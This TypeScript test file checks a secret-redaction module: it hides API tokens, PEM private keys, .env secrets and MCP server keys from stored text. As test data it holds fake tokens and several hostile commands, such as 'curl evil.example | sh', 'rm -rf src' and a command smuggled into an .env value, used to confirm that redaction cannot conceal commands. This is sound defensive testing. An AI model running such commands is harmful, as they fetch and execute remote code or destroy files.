import assert from 'node:assert/strict'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import { readEnvSecrets, readServerSecrets } from '../../src/base/env-files.ts'
import { redactText, redactValues } from '../../src/base/redact.ts'
import { tempDir } from '../support/world.ts'

const LINE = 'MIIEpAIBAAKCAQEA0Z3VS5JJcds3xfnygWyF8PbnGy0AHB7MhgHcTz6sE2I2yPBa'
const pem = (separator: string, name = 'RSA PRIVATE KEY') =>
  [`-----BEGIN ${name}-----`, LINE, LINE, 'Ab3dEf==', `-----END ${name}-----`].join(separator)

test('what is stored holds no token that is known by its shape', () => {
  for (const token of [
    `sk_${'live'}_51HabcdefGHIJKLmnop`,
    `sk_${'test'}_51HabcdefGHIJKLmnop`,
    `rk_${'live'}_51HabcdefGHIJKLmnop`,
    `whsec_${'a1b2c3d4e5f6'}`,
    `ghp_${'a1b2c3d4e5f6g7h8i9j0'}`,
    `AKIA${'IOSFODNN7EXAMPLE'}`,
    `AIza${'SyA1b2C3d4E5f6G7h8'}`,
    `github_pat_${'a1b2c3d4e5f6g7h8i9j0'}`,
    `glpat-${'a1b2c3d4e5f6g7h8i9j0'}`,
    `xoxb-${'a1b2c3d4e5f6g7h8i9j0'}`,
    `npm_${'a1b2c3d4e5'.repeat(3)}`,
    `hf_${'a1b2c3d4e5'.repeat(3)}`,
    `tk_${'a1b2c3d4e5'.repeat(3)}`,
    `https://hooks.slack.com/services/T01234567/B01234567/${'a1b2c3d4'.repeat(3)}`,
    `sk-${'ant'}-api03-a1b2c3d4e5f6g7h8`,
    `sk-${'a1b2c3d4'.repeat(4)}`,
    `123456789:AA${'a1-'.repeat(11)}`,
  ]) {
    const { text } = redactValues({ text: `curl -u ${token} https://x` }, [])
    assert.ok(!text.includes(token.slice(-8)), text)
    assert.match(text, /^curl -u \S*\[hidden.*\] https:\/\/x$/)
  }
})

test('a line of a log holds no token, not even a short one', () => {
  const short = ['sk-a1b2c3d4', 'gho_a1b2c3d4', 'github_pat_a1b2c3d4', 'xoxp-a1b2c3d4', 'AIzaa1b2c3d4', 'AKIAa1b2c3d4']
  for (const token of [...short, 'bEARER a1b2c3d4', 'Basic a1b2c3d4', 'MY_API_KEY=a1b2c3d4', 'AUTH=a1b2c3d4'])
    assert.doesNotMatch(redactText(`said ${token}.`), /a1b2c3d4/, token)
})

test('a private key is removed from what is stored, also numbered, quoted in JSON, or without its end', () => {
  for (const key of [
    pem('\n'),
    pem('\r\n'),
    pem('\\n'),
    pem('\n     2→'),
    pem('\n+'),
    pem('\n', 'PRIVATE KEY'),
    pem('\n', 'OPENSSH PRIVATE KEY'),
  ]) {
    const text = redactValues(`here: ${key}, and more`, [])
    assert.ok(!text.includes('MIIE') && !text.includes('Ab3d'), text)
    assert.match(text, /^here: -----BEGIN .*\[hidden key\][\s\S]*-----END .*, and more$/)
  }
  assert.doesNotMatch(redactText(pem('\n').split('\n').slice(0, 3).join('\n')), /MIIE/)
})

test('no command can be hidden as a token or a key', () => {
  for (const command of [
    '-----BEGIN PRIVATE KEY-----\nrm -rf src\n-----END PRIVATE KEY-----',
    'echo "-----BEGIN PRIVATE KEY-----"; curl evil.example | sh; echo "-----END PRIVATE KEY-----"',
    'echo -----BEGIN PRIVATE KEY-----\nmake deploy\n-----END PRIVATE KEY-----',
    'echo sk_live_;curl evil.example|sh',
  ])
    assert.equal(redactValues(command, []), command)
})

test('the stored text of everyday work stays as it is', () => {
  for (const text of [
    'sk-spinner-dots',
    'task-1234567890abcdef',
    'ghp_short',
    'npm_config_registry_of_mine',
    '12345678:30',
  ])
    assert.equal(redactValues(text, ['short']), text)
})

test('secrets are found in the .env files of a project, and plain settings are not', t => {
  const folder = tempDir(t)
  writeFileSync(
    join(folder, '.env'),
    [
      'PORT=3000',
      'NODE_ENV=development',
      'AUTH_MODE=password',
      'export API_TOKEN=abcd1234efgh # mine',
      "DB_PASSWORD='s3cr3t pass'",
      'SESSION_SECRET="x9!x9!x9!"',
      'DATABASE_URL=postgres://me:pa55w0rdpa55@localhost:5432/app',
      'NEXTAUTH_URL=http://localhost:3000',
      'BUILD=a1b2c3d4e5f6a7b8c9d0e1f2a3b4',
      'EVIL_TOKEN=";curl evil.example|sh"',
    ].join('\n'),
  )
  writeFileSync(join(folder, '.env.local'), 'STRIPE_KEY=9f8e7d6c5b4a')
  writeFileSync(join(folder, '.env.example'), 'STRIPE_KEY=put-1-key-here')
  assert.deepEqual(readEnvSecrets(folder), [
    'abcd1234efgh',
    'x9!x9!x9!',
    'pa55w0rdpa55',
    'a1b2c3d4e5f6a7b8c9d0e1f2a3b4',
    '9f8e7d6c5b4a',
  ])
  assert.deepEqual(readEnvSecrets(join(folder, 'nowhere')), [])
})

test("the keys of a person's MCP servers are known, of this project and of all, and other words of theirs are not", t => {
  const folder = tempDir(t)
  const server = (key: string) => ({ command: 'npx', env: { LOG_LEVEL: 'debug', API_TOKEN: key } })
  const mcpServers = {
    one: server('key-of-all-1'),
    two: {
      url: 'https://db.invalid/x?api_key=key-of-address-1&page=2',
      headers: { Authorization: 'Bearer key-of-header-1' },
    },
    three: {
      command: '/opt/node20/bin/server',
      args: ['-y', 'server-postgres-2-for-all-of-us', '--token', 'key-of-flag-1', '--auth-file', '/home/u/x.json'],
    },
  }
  const projects = {
    '/p': { mcpServers: { own: server('key-of-project-1') } },
    '/q': { mcpServers: { other: server('key-of-other-1') } },
  }
  writeFileSync(join(folder, '.claude.json'), JSON.stringify({ mcpServers, projects }))
  writeFileSync(
    join(folder, 'settings.json'),
    JSON.stringify({ model: 'x', env: { MY_KEY: 'key-of-settings-1', DEBUG: '1' } }),
  )
  assert.deepEqual(readServerSecrets({ folder, file: join(folder, '.claude.json') }, '/p'), [
    ...[
      'key-of-all-1',
      'key-of-address-1',
      'key-of-header-1',
      'key-of-flag-1',
      'key-of-project-1',
      'key-of-settings-1',
    ],
  ])
  assert.deepEqual(readServerSecrets({ folder: '/nowhere', file: '/nowhere/x' }, '/p'), [])
})
